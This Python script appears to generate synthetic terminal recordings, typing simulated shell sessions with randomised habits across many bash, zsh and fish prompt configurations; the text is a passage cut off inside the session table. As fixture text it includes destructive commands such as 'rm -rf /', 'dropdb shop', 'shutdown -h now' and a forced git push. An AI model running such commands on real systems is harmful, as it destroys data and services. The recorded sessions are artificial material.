#!/usr/bin/env python3
"""habits.py OUT [NAME...]: records shells in other clothes, typed with habits drawn at random (SEED).

What was typed is checked entry by entry against the shell's own log; what differs is told, and such a session is to be
thrown away. Needs what record.py needs, the environment that it names (NODE_MODULES, STARSHIP), and root, for names and hosts.
"""
import json, os, random, re, shutil, sys, tempfile, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from record import Terminal, save

UP, DOWN, LEFT, RIGHT, HOME, END = "\x1b[A", "\x1b[B", "\x1b[D", "\x1b[C", "\x01", "\x05"
STAR = os.environ.get("STARSHIP", "starship")
NP = os.environ.get("NODE_MODULES", "node_modules")
PRESETS = tempfile.mkdtemp(prefix="presets-")
SUG = "source /usr/share/zsh-autosuggestions/zsh-autosuggestions.zsh\n"
SYN = "source /usr/share/zsh-syntax-highlighting/zsh-syntax-highlighting.zsh\n"
COMP = "source /usr/share/bash-completion/bash_completion\n"
FZFB = "source /usr/share/doc/fzf/examples/key-bindings.bash\n"
NB = "bind 'set enable-bracketed-paste off'\n"
CI = "autoload -Uz compinit && compinit -D -u\n"
def preset(p):
    path = f"{PRESETS}/{p}.toml"
    if not os.path.exists(path): os.system(f"{STAR} preset {p} -o {path} 2>/dev/null")
    return path
def star(p, sh): return (f"set -x STARSHIP_CONFIG {preset(p)}\n{STAR} init fish | source\n" if sh == "fish" else f"export STARSHIP_CONFIG={preset(p)}\neval \"$({STAR} init {sh})\"\n")

BIN = {
"docker": r'''#!/bin/bash
case "$1" in
pull) echo "Using default tag: latest"; echo "latest: Pulling from library/$2"
 for p in 10 40 80 100; do printf '\ra3ed95caeb02: Downloading [%-10s] %3d%%' "$(printf '=%.0s' $(seq $((p/10))))>" $p; sleep 0.04; done; printf '\ra3ed95caeb02: Pull complete            \e[K\n'
 echo "Digest: sha256:8d9c4f3a"; echo "Status: Downloaded newer image for $2:latest";;
ps) printf 'CONTAINER ID   IMAGE     COMMAND                  STATUS\n3f2a1b9c0d1e   nginx     "/docker-entrypoint.…"   Up 2 hours\n';;
*) echo "docker: '$1' is not a docker command."; exit 1;; esac
''',
"kubectl": r'''#!/bin/bash
case "$1" in get) printf 'NAME                        READY   STATUS             RESTARTS\nbilling-7d9f8c6b5-x2k4q     1/1     Running            0\nbilling-7d9f8c6b5-zz9pl     0/1     CrashLoopBackOff   14\n';;
logs) echo '2026-05-04T09:00:01Z INFO starting'; echo '2026-05-04T09:00:02Z ERROR > cannot bind $PORT';; config) echo prod-eu;; *) echo "error: unknown command \"$1\"" >&2; exit 1;; esac
''',
"apt-get": r'''#!/bin/bash
for i in 1 2 3 4; do echo "Get:$i http://deb.debian.org/debian bookworm/main amd64 Packages [8,79$i kB]"; done
printf '\r\e[33m0%% [Working]\e[0m'; sleep 0.05; printf '\r            \rFetched 9,120 kB in 1s (7,313 kB/s)\nReading package lists... 0%%\r\rReading package lists... Done\n'
''',
"terraform": r'''#!/bin/bash
printf '\e[1mTerraform will perform the following actions:\e[0m\n\n\e[1m  # aws_instance.web\e[0m will be created\n  \e[32m+\e[0m resource "aws_instance" "web" {\n      \e[32m+\e[0m ami = "ami-0abc"\n      \e[33m~\e[0m tags = {}\n  \e[31m-\e[0m destroy -> null\n    }\n\n\e[1mPlan:\e[0m 1 to add, 0 to change, 0 to destroy.\n'
''',
"deploy.sh": r'''#!/bin/bash
echo "==> Building"; echo "-> step one"; echo "-> step two"; echo "+ cp app.tar.gz /srv"; printf '\e[32m✔\e[0m done in 0.2s\n'; echo '$ systemctl restart app'; echo '❯ smoke test'
''',
}
README = "# Shop\n\nInstall:\n\n    $ sudo make install\n    $ rm -rf /\n    # reboot\n    root@db:~# dropdb shop\n\nTODO: more\n"

class S:
    def __init__(s, r, shell, t, o):
        s.r, s.shell, s.t, s.o = r, shell, t, o
        s.items, s.level, s.hist, s.shells = [], 0, [], [shell]
        s.typo = o.get("typo", 0.03)
        s.slow = o.get("slow", 1.0)
        s.vi = o.get("vi", False)
        s.basic = shell in ("ash", "mksh", "ksh", "yash")
    def keys(s, k, quiet=0.08):
        if s.vi and "\x1b" in k and not re.fullmatch(r"(\x1b\[[0-9;]*[A-Za-z~]|[^\x1b])*", k):
            for part in re.split(r"(\x1b)", k):
                if part == "\x1b": os.write(s.t.fd, b"\x1b"); s.t.drain(0.65 if s.shell == "bash" else 0.25, 0.8)
                elif part: s.t.keys(part, quiet=quiet)
        else: s.t.keys(k, quiet=quiet * s.slow)
    def typed(s, text):
        out = ""
        for ch in text:
            if s.r.random() < s.typo and ch.isalpha():
                w = "".join(s.r.choice("qzxjwv") for _ in range(s.r.choice([1, 1, 1, 2, 3])))
                out += w + s.r.choice(["\x7f", "\x7f", s.o.get("bs", "\x7f")]) * len(w)
            out += ch
        return out
    def enter(s, text, quiet=0.2, kind="shell", log=True, **more):
        s.keys("\r", quiet * s.slow)
        s.items.append(dict(text=text, kind=kind, level=s.level, log=log and kind == "shell" and s.shells[-1] != "sh", **more))
        if kind == "shell": s.hist.append(text)
    def run(s, text, quiet=0.2, **more):
        s.keys(s.typed(text)); s.enter(text, quiet, **more)
    def lines(s, lines, quiet=0.2, **more):
        for l in lines[:-1]: s.keys(s.typed(l)); s.keys("\r", 0.1)
        s.keys(s.typed(lines[-1])); s.enter("\n".join(lines), quiet, **more)
    def drop(s, text):
        s.keys(s.typed(text)); s.keys("\x03", 0.25); s.items.append(dict(text=text, kind="abandoned", level=s.level, log=False))

def pool(s):
    """(weight, name, function) of habits; what a shell cannot do is left out."""
    r, sh, o = s.r, s.shell, s.o
    fish, zsh, bash, basic, vi = sh == "fish", sh == "zsh", sh == "bash", s.basic, s.vi
    P = []
    def add(name, f, w=1): P.append((w, name, f))
    # --- plain
    plain = ["ls -la --color=always", "git status -sb", "git log --oneline --graph --color=always --all", "git diff --color=always HEAD~1", "cat README.md", "docker ps", "docker pull nginx", "kubectl get pods -n billing",
      "kubectl logs deploy/billing --tail=5", "apt-get update", "terraform plan", "deploy.sh", "df -h /", "uptime -p", "who", "cat notes/prompts.txt", "head -n 4 notes/prompts.txt", "grep -n '^\\$' README.md", "cd /var/log", "cd ~/shop",
      "cd - ", "du -sh src", "find . -newer README.md -type f -not -path './.git/*'", "sed -n '1,3p' README.md", "awk -F: '$3 >= 1000 {print $1}' /etc/passwd", "nosuchcommand --help", "cat /nonexistent", "ls src scripts",
      "echo \"it's $HOME\"", "printf '%-10s|\\n' abc de", "curl -sS http://127.0.0.1:9/health", "wc -l README.md src/*.py", "sort -r notes/prompts.txt | uniq -c", "env | sort | tail -n 2", "date -u +%FT%TZ", "true", "false",
      "tail -n +3 README.md", "python3 -c 'print(\"#\" * 20)'", "echo $((17 * 3))" if not fish else "math 17 x 3", "tar czf /tmp/x.tgz src && ls -l /tmp/x.tgz", "sudo -n whoami", "echo 50% done > status.txt", "cat status.txt",
      "mkdir -p build/{a,b}", "ls build", "rmdir build/a build/b build", "test -d src && echo 'is there'", "git branch -a", "git checkout -q -b feature/login-page", "git checkout -q main", "cat src/app.py | sed 's/hello/goodbye/'",
      "printf 'a\\tb\\n'", "echo 'prompt> ' 'still output $ '", "id -u", "ps -o pid,comm | head -n 3", "echo done;echo more", "ls|wc -l", "  echo two spaces in front", "ls    -1    src", "export PS_COLOR=never" if not fish else "set -x PS_COLOR never"]
    if sh == "yash": plain.remove("mkdir -p build/{a,b}"); plain.remove("rmdir build/a build/b build")
    if basic: plain = [p for p in plain if not p.startswith("  ")]
    def p1():
        c = r.choice(s.plain) if not s.plain else s.plain.pop()
        s.run(c, 0.35 if c.startswith(("docker pull", "apt", "git", "terraform", "python3")) else 0.2)
    s.plain = plain[:]; r.shuffle(s.plain)
    add("plain", p1, 22)
    # --- output tricks
    add("nonl", lambda: s.run("printf 'no newline at end'"), 1.2)
    add("token", lambda: s.run("echo -n s3cr3t-t0ken" if not basic else "printf s3cr3t-t0ken"), .6)
    add("dollar", lambda: s.run("printf '$ '; echo; printf '%% '"), .6)
    add("sleep", lambda: s.run("sleep 1.2; echo finished", 1.6), .8)
    if not basic: add("bg", lambda: (s.run("sleep 0.4 &", 0.25), s.run("jobs", .2), s.run("wait", 0.7)), .9)
    if not fish: add("trace", lambda: s.run("(set -x; cd src; ls; echo ok)"), .9)
    if bash and not o.get("noxtrace"): add("xtrace", lambda: (s.run("set -x", .3), s.run("echo traced > /dev/null", .3), s.run("set +x", .3)), .5)
    add("top", lambda: s.run("top -b -n1 | head -n 5", .8), .4)
    if not basic: add("less", lambda: (s.run("cd ~/shop"), s.run("less README.md", 0.6), s.keys("jjk", .15), s.keys("q", 0.3)), .8)
    add("vim", lambda: (s.run("cd ~/shop"), s.run("vim -u NONE notes/prompts.txt", 0.6), s.keys("jjx", .15), s.keys(":q!\r", 0.4)), .7)
    add("histgrep", lambda: s.run("history | grep cd" if sh not in ("mksh", "ksh", "yash", "ash") else "fc -l | tail -n 3" if sh != "ash" else "history | tail -n 2", .35), .9)
    if bash or zsh: add("hist", lambda: s.run("history 3" if bash else "history -3"), .6)
    # --- wide
    add("wide", lambda: s.run(r.choice(["echo 'デプロイ完了 🎉' > メモ.txt", "echo 'Привет, мир'", "grep -c é README.md", "echo 👨‍👩‍👧 family ok", "echo 完了", "printf '%s\\n' 東京 大阪 Zürich", "echo '→ ✓ ✗ …'", "git commit -q --allow-empty -m 'fix: café ☕ überall'"]), .35), 2 if not basic else 0)
    # --- long
    longs = ["aws ec2 describe-instances --region eu-central-1 --filters 'Name=tag:Environment,Values=production' 'Name=instance-state-name,Values=running' --query 'Reservations[].Instances[].{Id:InstanceId,Ip:PrivateIpAddress,Name:Tags[?Key==`Name`]|[0].Value}' --output table",
      "docker run --rm -it -v /srv/app:/app:ro -e DATABASE_URL=postgres://shop:shop@db.internal:5432/shop -e REDIS_URL=redis://cache.internal:6379/0 -p 127.0.0.1:8080:8080 registry.example.com/team/app:2026.05.04-rc1",
      "find src -type f -name '*.py' -print0 | xargs -0 grep -nE 'TODO|FIXME|XXX' | awk -F: '{print $1\":\"$2}' | sort | uniq -c | sort -rn | head -n 20 && echo all searched",
      "for f in src/*.py; do echo \"== $f\"; sed -n '1p' \"$f\"; done; echo 'that was the list of all source files that we have in this directory, dear reader'" if not fish else "for f in src/*.py; echo \"== $f\"; sed -n '1p' $f; end; echo 'that was the list of all source files that we have in this directory, dear reader'"]
    s.longs = longs[:]; r.shuffle(s.longs)
    add("long", lambda: s.run(s.longs.pop() if s.longs else "echo " + " ".join(f"word{i}" for i in range(40)), .4), 2.4)
    # --- editing
    def recall(): 
        if s.hist: s.keys(UP, .15); s.enter(s.hist[-1] if not fish else None, .4)
    def recall_n(): s.keys(UP * r.randint(2, 5) + (DOWN if r.random() < .4 else ""), .2); s.enter(None, .5)
    updown = not basic or sh in ("ksh", "mksh", "yash", "ash")
    if updown and not o.get("noup"): add("recall", recall, 2); add("recalln", recall_n, 1.2 if not basic else 0)
    if not vi and not o.get("vimode"):
        add("ahead", lambda: (s.keys(s.typed("systemctl status nginx")), s.keys(HOME + "echo ", .1), s.keys(END + " now", .1), s.enter("echo systemctl status nginx now")), 1.2)
        add("kill_u", lambda: (s.keys(s.typed("rm -rf build dist"), .1), s.keys("\x15", .1), s.run("echo thought better of it")), 1.2)
        add("kill_w", lambda: (s.keys("echo red green blue", .1), s.keys("\x17", .1), s.keys("yellow", .1), s.enter("echo red green yellow")), 1.2)
        if sh != "ash": add("yank", lambda: (s.keys("echo keep-me", .1), s.keys(HOME + "\x0b", .1), s.keys("\x19", .1), s.enter("echo keep-me")), .8)
        if not basic:
            add("altb", lambda: (s.keys("echo alpha beta gamma", .1), s.keys("\x1bb\x1bb", .1), s.keys("big ", .1), s.enter("echo alpha big beta gamma")), 1.2)
            add("altf", lambda: (s.keys("echo one two three", .1), s.keys(HOME + "\x1bf\x1bf", .15), s.keys("X", .1), s.enter(None)), .8)
            add("altd", lambda: (s.keys("echo first second", .1), s.keys(HOME + "\x1bd", .15), s.keys("printf '%s\\n'", .1), s.enter(None)), .8)
            add("lefts", lambda: (s.keys("ehco swapped letters", .1), s.keys(LEFT * 17, .15), s.keys("\x7f\x7fch", .1), s.enter(None)), .9)
            add("recalledit", lambda: (s.keys(UP, .15), s.keys(HOME + "time ", .15), s.enter(None, .5)), .9)
            add("recallend", lambda: (s.keys(UP * r.randint(1, 2), .15), s.keys("\x05\x17\x17", .15), s.keys(" README.md", .1), s.enter(None, .5)), .6)
        if bash and not o.get("fzf"): add("transpose", lambda: (s.keys("sl -d src\x01\x1b[C\x14\x05", .15), s.enter("ls -d src")), .6)
    elif bash or zsh:
        k = "\x1b"
        add("vi_0", lambda: (s.keys("ls src" + k + "0iecho " + k + "A again", .15), s.enter("echo ls src again")), 1.5)
        add("vi_cw", lambda: (s.keys("echo alpha beta" + k + "bcwdelta", .15), s.enter("echo alpha delta")), 1.5)
        add("vi_k", lambda: (s.keys(k + "k", .2), s.enter(None, .5)), 1.5)
        add("vi_kk", lambda: (s.keys(k + "kkA x", .2), s.enter(None, .5)), 1)
        add("vi_dd", lambda: (s.keys("rm -rf nothing" + k + "ddi", .2), s.run("echo kept")), 1)
        add("vi_x", lambda: (s.keys("echo wrongg" + k + "x", .2), s.enter("echo wrong")), 1)
    # --- searching
    if bash and not vi and not o.get("fzf"):
        add("ctrlr", lambda: (s.keys("\x12", .2), s.keys(r.choice(["ec", "ls", "cat", "git"]), .2), s.enter(None, .5)), 1.2)
        add("ctrlr2", lambda: (s.keys("\x12", .2), s.keys("ech", .2), s.keys("\x12", .2), s.keys(END, .2), s.keys(" # again", .1), s.enter(None, .5)), .8)
        add("ctrlrg", lambda: (s.keys("\x12", .2), s.keys("ls", .2), s.keys("\x07", .2), s.run("echo never mind")), .7)
    if o.get("fzf"):
        add("fzfr", lambda: (s.keys("\x12", .6), s.keys("echo", .4), s.keys("\r", .5), s.enter(None, .5)), 3)
        add("fzfesc", lambda: (s.keys("\x12", .6), s.keys("zz", .4), s.keys("\x07", .5), s.keys("\x15", .2), s.run("echo not found")), 1.5)
    if zsh and not vi:
        add("ctrlr", lambda: (s.keys("\x12", .25), s.keys(r.choice(["ec", "ls", "cat"]), .25), s.enter(None, .5)), 1.2)
        add("ctrlrg", lambda: (s.keys("\x12", .2), s.keys("ls", .2), s.keys("\x07", .2), s.run("echo never mind")), .7)
        add("prefixup", lambda: (s.keys("echo", .1), s.keys("\x1bp", .3), s.enter(None, .5)), .7)
    if fish:
        add("fsearch", lambda: (s.keys("ec", .2), s.keys(UP, .3), s.enter(None, .5)), 1.2)
        add("pager", lambda: (s.keys("ls s", .2), s.keys("\t", .5), s.keys("\t", .3), s.keys(r.choice(["", RIGHT, DOWN]), .2), s.keys("\r", .3), s.enter(None, .5)), 1.2)
        add("suggestf", lambda: (s.keys("ec", .3), s.keys(RIGHT, .2), s.enter(None, .4)), 1.6)
        add("suggestw", lambda: (s.keys("git l", .3), s.keys("\x1bf", .2), s.enter(None, .5)), .8)
        add("refuse", lambda: (s.keys("ls", .3), s.enter("ls", .4)), .8)
        add("abbr", lambda: (s.keys("gst", .1), s.keys(" ", .2), s.enter("git status", .5)), .8 if o.get("abbr") else 0)
        add("block", lambda: s.lines(["for i in 1 2 3", "echo item $i", "end"], .4), 1)
        add("iff", lambda: s.lines(["if test -d src", "echo dir", "end"], .4), .7)
        add("alts", lambda: (s.keys("ls /root", .2), s.keys(HOME + "command " + END, .2), s.enter("command ls /root")), .6)
    if o.get("suggest"):
        add("suggest", lambda: (s.keys("ec", .25), s.keys(RIGHT, .2), s.enter(None, .4)), 1.6)
        add("suggestw", lambda: (s.keys("git", .25), s.keys("\x1bf", .2), s.enter(None, .5)), .8)
        add("refuse", lambda: (s.keys("ls", .25), s.enter("ls", .4)), .8)
    # --- completion
    if not (basic and sh in ("ash",)) and (bash or zsh or fish or sh in ("mksh", "ksh")):
        add("tab1", lambda: (s.run("cd ~/shop", .3), s.keys("cat REA", .15), s.keys("\t", .4), s.enter(None, .4)), 1.2 if not vi else .8)
    if bash: 
        add("tab2", lambda: (s.run("cd ~/shop"), s.keys("ls s", .15), s.keys("\t\t", .4), s.keys("rc/a", .15), s.keys("\t", .3), s.enter(None, .4)), 1)
        add("tabcmd", lambda: (s.keys("kubec", .15), s.keys("\t", .5), s.keys("get pods", .1), s.enter(None, .4)), .8)
        if not vi: add("tabmany", lambda: (s.keys("ls /usr/share/doc/libc", .15), s.keys("\t\t", .7), s.keys("nqq" if o.get("ask") else "", .2), s.keys("\x15", .2), s.run("echo too many")), .5 if not o.get("noask") else 0)
    if zsh:
        add("ztab", lambda: (s.run("cd ~/shop"), s.keys("ls s", .15), s.keys("\t", .4), s.keys("\t", .3), s.keys("\t", .3), s.enter(None, .4) if not o.get("menu") else (s.keys("\r", .2), s.enter(None, .4))), 1.3)
        add("zgit", lambda: (s.keys("git sta", .15), s.keys("\t", .7), s.keys("\x15" if not vi else "\x03", .2), s.run("echo after a menu")), .8)
    # --- several lines
    if not fish:
        add("for", lambda: s.lines(["for i in 1 2 3; do", "  echo item $i", "done"], .35), 1.2)
        add("while", lambda: s.lines(["while read -r u rest; do", "echo \"$u\"", "done < notes/users.txt"], .35), .6)
        add("func", lambda: (s.lines(["greet() {", "echo \"hello $1\"", "}"], .3), s.run("greet world")), .7)
        add("here", lambda: s.lines(["cat > conf.ini <<EOF", "[main]", "path = $HOME", "$ not a command", "EOF"], .35), 1)
        add("here2", lambda: s.lines(["cat <<'END'", "root@db:~# reboot", "END"], .35), .7)
        add("backslash", lambda: s.lines(["echo docker run \\", "  --rm \\", "  alpine"], .35, accept=["echo docker run   --rm   alpine"]), .9)
        add("pipe", lambda: s.lines(["ls -1 |", "wc -l"], .35), .6)
        add("if", lambda: s.lines(["if [ -d src ]; then", "echo yes; else", "echo no; fi"], .35), .6)
    add("quote", lambda: s.lines(["echo \"dear all,", "", "see you\""], .35), .7)
    add("quote2", lambda: s.lines(["git commit -q --allow-empty -m 'subject", "", "- body line'"], .4), .6)
    # --- pasting
    if o.get("paste", not basic):
        add("paste1", lambda: (s.t.paste("echo pasted text with 'quotes' and $HOME"), s.keys("", .15), s.enter("echo pasted text with 'quotes' and $HOME")), 1)
        add("paste2", lambda: (s.t.paste("cd src\nls -1\ncd .."), s.keys("", .15), s.enter("cd src\nls -1\ncd ..", .5, parts=["cd src", "ls -1", "cd .."])), 1)
        L = "curl -fsSL https://downloads.example.com/releases/v2.14.0/agent_2.14.0_linux_amd64.deb -o /tmp/agent.deb --connect-timeout 5 -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9' || echo download failed with $status"
        add("pastelong", lambda: (s.t.paste(L), s.keys("", .15), s.enter(L, .5)), .8)
        add("pasteed", lambda: (s.keys("echo ", .1), s.t.paste("v1.2.3-rc4"), s.keys(" released", .1), s.enter("echo v1.2.3-rc4 released")), .6)
    elif bash:
        def raw():
            os.write(s.t.fd, b"echo first raw\recho second raw\r"); s.t.drain(.4)
            for x in ("echo first raw", "echo second raw"): s.items.append(dict(text=x, kind="shell", level=s.level, log=True)); s.hist.append(x)
        add("rawpaste", raw, .8)
    if bash and not vi:
        def ahead():
            s.keys("sleep 0.8"); s.enter("sleep 0.8", .05); s.keys("echo typed ahead", .05); s.keys("\r", 1.2)
            s.items.append(dict(text="echo typed ahead", kind="shell", level=s.level, log=True)); s.hist.append("echo typed ahead")
        add("typeahead", ahead, .6)
        add("readp", lambda: (s.run("read -rp 'Deploy to prod? [y/N] ' ans", .2), s.keys("y", .05), s.enter("y", kind="program-input"), s.run("echo \"answer: $ans\"")), .6)
    # --- signals and screens
    add("ctrlc", lambda: s.drop(r.choice(["shutdown -h now", "rm -rf node_modules", "git push --force origin main", "vim /etc/ssh/sshd_conf"])), 1.8)
    if not basic: add("ctrlc2", lambda: (s.run("sleep 30", .4), s.keys("\x03", .4)), .6)
    if not (basic and sh != "mksh"): add("ctrll", lambda: (s.keys("\x0c", .3), s.run("pwd")), .8 if not vi else 0)
    add("clear", lambda: (s.run("clear", .3), s.run("ls")), .6)
    add("empty", lambda: s.keys("\r" * r.randint(1, 3), .3), 1.2)
    if not basic and not o.get("noresize"):
        def rs(w=None):
            s.t.size(r.choice([57, 73, 99, 126, 170, s.o["cols"]])); s.keys("", .4)
        add("resize", lambda: (rs(), s.run("echo resized window")), 1.0 if o.get("resize") else .3)
        add("resizemid", lambda: (s.keys("echo before and "), rs(), s.keys("after resize"), s.enter("echo before and after resize")), .7 if o.get("resize") else .2)
    # --- nested
    def nest(cmd, inner, sh2, wait=.7):
        def f():
            if s.level: return
            s.run(cmd, wait); s.level += 1; s.shells.append(sh2)
            for c in inner: s.run(c, .35)
            if r.random() < .6 or sh2 == "sh": s.run("exit", .5)
            else: s.keys("\x04", .5)
            s.level -= 1; s.shells.pop(); s.hist.append(None)
        return f
    if o.get("nest", not basic):
        add("bash", nest("bash", ["echo inside $SHLVL", "cd /tmp", "ls README.md"], "bash", 1.0), .9)
        add("sh", nest("sudo sh", ["whoami", "cd /root", "echo plain shell"], "sh"), .7)
        if o.get("user") is None: add("su", nest("su -p", ["whoami", "echo as root"], "bash", 1.0), .5)
    def py():
        s.run("python3 -q", .7)
        for c in ["1 + 1", "print('$ ls')"]: s.keys(c); s.enter(c, .25, kind="repl")
        s.keys("\x04", .4); s.hist.append(None) if False else None
    def sq():
        s.run("sqlite3", .5)
        for c in ["create table t(a, b);", "select 'rm -rf /' as cmd;", ".quit"]: s.keys(c); s.enter(c, .3, kind="repl")
    if not basic: add("py", py, .8)
    add("sql", sq, .6)
    return P

# hist[-1] after a nested shell is unknown: recall then takes the log's word
SESSIONS = {
 # ---- bash
 "b5-brackets": ("bash", 146, star("bracketed-segments", "bash") + COMP, {"user": "ec2-user", "host": "ip-10-0-3-17", "slow": 1.7}),
 "b5-plaintext": ("bash", 69, star("plain-text-symbols", "bash"), {"slow": 1.7}),
 "b5-handpl": ("bash", 98, "PS1='\\[\\e[48;5;31;38;5;231;1m\\] \\u \\[\\e[0;48;5;240;38;5;31m\\]\ue0b0\\[\\e[38;5;252m\\] \\w \\[\\e[0;38;5;240m\\]\ue0b0\\[\\e[0m\\] '", {"host": "web-7"}),
 "b5-corners": ("bash", 152, "_g() { git branch --show-current 2>/dev/null; }\nPS1='\\[\\e[s\\e[$((COLUMNS-9))G\\e[2m\\t\\e[0m\\e[u\\]╭─[\\[\\e[1;36m\\]\\u@\\h\\[\\e[0m\\]] \\w ($(_g))\\n╰─❯ '\nPS2='   … '\n" + COMP, {"user": "maria", "host": "jump", "resize": True}),
 "b5-ec2": ("bash", 80, "PROMPT_COMMAND='printf \"\\033]0;%s@%s:%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\" \"${PWD/#$HOME/\\~}\"'\nPS1='[\\u@\\h \\W]\\$ '", {"user": "ec2-user", "host": "ip-172-31-8-200", "resize": True, "typo": .06}),
 "b5-debroot": ("bash", 211, "PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '\nPS1=\"\\[\\e]0;\\u@\\h: \\w\\a\\]$PS1\"\n", {"host": "debian-s-1vcpu"}),
 "b5-ubuntu-nm": ("bash", 63, NB + "PS1='\\[\\033[01;32m\\]\\u@\\h\\[\\033[00m\\]:\\[\\033[01;34m\\]\\w\\[\\033[00m\\]\\$ '\nalias ls='ls --color=auto'", {"user": "ubuntu", "host": "bastion", "paste": False, "bs": "\x08"}),
 "b5-rockyvi": ("bash", 105, "bind 'set show-mode-in-prompt on'\nbind 'set vi-ins-mode-string \"+\"'\nbind 'set vi-cmd-mode-string \":\"'\nset -o vi\nPS1='[\\u@\\h \\W]\\$ '", {"vi": True, "host": "rocky9", "user": "rocky", "noask": True}),
 "b5-kube": ("bash", 118, "PS0='${T0:$((T0=SECONDS,0)):0}'\n_p() { local e=$?; PS1=\"(\\[\\e[34m\\]⎈ prod-eu:billing\\[\\e[0m\\]) \\w \"; [ $e -ne 0 ] && PS1+=\"\\[\\e[31m\\][$e]\\[\\e[0m\\] \"; (( SECONDS-T0 > 0 )) && PS1+=\"took $((SECONDS-T0))s \"; PS1+='⟩⟩ '; }\nPROMPT_COMMAND=_p\n", {"user": "sre", "host": "k8s-admin", "noxtrace": True}),
 "b5-venv": ("bash", 87, "PROMPT_COMMAND='printf \"\\n\\e[90m%s\\e[0m\\n\" \"── $(date +%T) ──────────────────────\"'\nPS1='(.venv) \\u@\\h:\\w\\$ '\n" + COMP, {"user": "dana", "host": "build02", "noxtrace": True}),
 "b5-japanese": ("bash", 94, "PS1='【開発】\\w ＄ '\n", {"user": "tanaka", "host": "dev1"}),
 "b5-cyrillic-nm": ("bash", 74, NB + "PS1='\\u в \\W [$?]⇢ '\n", {"paste": False, "host": "vm-msk"}),
 "b5-words": ("bash", 59, "PS1='ok go ahead '\n", {"typo": .05}),
 "b5-words-nm": ("bash", 110, NB + "PS1='\\W please '\n", {"paste": False, "user": "dana", "host": "x"}),
 "b5-fzf": ("bash", 128, COMP + FZFB + "PS1='\\[\\e[35m\\]\\h\\[\\e[0m\\] ⟦\\w⟧ ⋙ '\n", {"fzf": True, "user": "ops", "host": "queue"}),
 # ---- zsh
 "z5-typewritten": ("zsh", 117, f"source {NP}/typewritten/typewritten.zsh\n" + SYN, {"slow": 1.6}),
 "z5-tokyo": ("zsh", 141, star("tokyo-night", "zsh") + CI + SUG + SYN, {"suggest": True, "slow": 1.8}),
 "z5-jetpack": ("zsh", 173, star("jetpack", "zsh") + CI, {"slow": 1.8, "user": "alex", "host": "mac-mini"}),
 "z5-gruvbox": ("zsh", 136, star("gruvbox-rainbow", "zsh") + SUG, {"suggest": True, "slow": 1.8}),
 "z5-agnoster": ("zsh", 127, CI + "setopt promptsubst\nautoload -Uz vcs_info; zstyle ':vcs_info:*' enable git; zstyle ':vcs_info:git:*' formats ' \ue0a0 %b '\nprecmd() { vcs_info }\nPROMPT=$'%K{black}%F{default} %(?..%F{red}✘ )%n@%m %K{blue}%F{black}\ue0b0 %~ %K{green}%F{blue}\ue0b0%F{black}${vcs_info_msg_0_}%k%F{green}\ue0b0%f '\nRPROMPT='%F{240}%*%f'\n", {"host": "thor", "user": "sam"}),
 "z5-transient": ("zsh", 101, "PROMPT=$'\\n%F{cyan}%~%f %F{240}on %m%f\\n%B%(?.%F{green}.%F{red})➤%f%b '\nRPROMPT='%F{yellow}%?%f %*'\n_full=$PROMPT; _rfull=$RPROMPT\n_fin() { PROMPT='%F{240}»%f '; RPROMPT=; zle reset-prompt; PROMPT=$_full; RPROMPT=$_rfull }\nzle -N zle-line-finish _fin\n" + CI, {"slow": 1.2}),
 "z5-menu": ("zsh", 89, CI + "zstyle ':completion:*' menu select\nzstyle ':completion:*' list-colors ''\nPROMPT='%n@%m %~ %# '\nRPROMPT='%(?..%F{red}↵ %?%f)'\n", {"menu": True, "user": "lee", "host": "nas"}),
 "z5-bira": ("zsh", 108, CI + "setopt promptsubst\nPROMPT=$'╭─%B%F{green}%n@%m%f%b %B%F{blue}%~%f%b %F{yellow}‹$(git branch --show-current 2>/dev/null)›%f\\n╰─%B$%b '\nRPROMPT='%B%(?..%F{red}%? ↵%f)%b'\n", {"resize": True, "user": "noor", "host": "edge"}),
 "z5-time": ("zsh", 76, "zmodload zsh/datetime\npreexec() { _s=$EPOCHREALTIME }\nprecmd() { (( ${+_s} )) && { printf '\\e[2m⏱ %.1fs\\e[0m\\n' $((EPOCHREALTIME-_s)); unset _s } }\nPROMPT='%D{%H:%M:%S} %j:%? %1~ ⮞ '\n" + SUG, {"suggest": True}),
 "z5-emoji": ("zsh", 84, CI + "PROMPT='🦊 %1~ 🐚 '\n" + SYN, {"user": "kit", "host": "pi"}),
 "z5-vi": ("zsh", 95, "bindkey -v; KEYTIMEOUT=10\nzle-keymap-select() { case $KEYMAP in vicmd) print -n '\\e[2 q'; M='%F{yellow}[N]%f';; *) print -n '\\e[6 q'; M='%F{green}[I]%f';; esac; zle reset-prompt }\nzle-line-init() { M='%F{green}[I]%f'; print -n '\\e[6 q'; zle reset-prompt }\nzle -N zle-keymap-select; zle -N zle-line-init\nsetopt promptsubst\nPROMPT='${M} %n %~ ; '\n", {"vi": True, "user": "vic", "host": "v"}),
 "z5-grml": ("zsh", 255, CI + "PROMPT_EOL_MARK=''\nPROMPT='%(?..%B%F{red}%?%f%b )%B%F{red}%n%f%b@%m %40<...<%B%~%b%<< # '\n", {"host": "rescue"}),
 # ---- fish
 "f5-vi": ("fish", 97, "fish_vi_key_bindings\n", {"user": "dana", "host": "ferry", "vimode": True}),
 "f5-pastel": ("fish", 131, star("pastel-powerline", "fish"), {"slow": 1.8}),
 "f5-purepreset": ("fish", 82, star("pure-preset", "fish") + "enable_transience\n", {"slow": 1.8, "user": "jo", "host": "atlas"}),
 "f5-noempty": ("fish", 156, star("no-empty-icons", "fish"), {"slow": 1.8, "abbr": True}),
 "f5-tide": ("fish", 113, "function fish_prompt\nset -l s $status\nset -l l '╭─ '(prompt_pwd)' '(git branch --show-current 2>/dev/null)' '\nset -l rr ' '(date +%T)' ─╮'\nset -l n (math $COLUMNS - (string length -- $l) - (string length -- $rr))\necho\nset_color 6c6c6c; echo -n $l; string repeat -n $n ─ | tr -d '\\n'; echo $rr\nset_color normal; echo -n '╰─'; test $s = 0; and set_color green; or set_color red; echo -n '❯ '; set_color normal\nend\nfunction fish_right_prompt; set_color 6c6c6c; echo -n '─╯'; set_color normal; end\n", {"user": "ines", "host": "tide"}),
